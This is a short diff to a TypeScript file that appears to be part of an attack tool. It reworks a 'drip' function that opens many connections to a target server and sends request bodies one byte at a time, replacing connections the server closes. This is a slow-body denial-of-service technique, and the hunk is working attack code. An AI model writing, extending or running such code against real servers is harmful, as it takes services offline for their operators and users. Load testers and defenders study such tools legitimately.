@@ -31,22 +31,26 @@ function pipeline(request: Outgoing): Attack['run'] {
     });
 }
 
-/** Opens connections with the head of a request, and sends one byte of each body at a time. */
+/**
+ * Opens connections with the head of a request, and sends one byte of each body at a time. The first connections are those of half a
+ * minute; later ones replace those that the server has closed.
+ */
 async function drip(
   aim: Aim,
   head: Buffer,
   { connections, bytesPerSecond }: { connections: number; bytesPerSecond: number },
 ) {
   const sockets = new Set<ReturnType<Aim['open']>>();
-  const sending = setInterval(() => {
-    for (const socket of sockets) if (socket.writableLength === 0) socket.write(' ');
-  }, 1000 / bytesPerSecond);
-  await aim.repeat(100, () => {
-    if (sockets.size >= connections) return;
+  const add = () => {
     const socket = aim.open(head).setNoDelay(true).resume();
     sockets.add(socket);
     socket.on('close', () => sockets.delete(socket));
-  });
+  };
+  const sending = setInterval(() => {
+    for (const socket of sockets) if (socket.writableLength === 0) socket.write(' ');
+  }, 1000 / bytesPerSecond);
+  for (let at = 0; at < connections; at++) add();
+  await aim.repeat(quickly, () => sockets.size < connections && add());
   clearInterval(sending);
 }
 
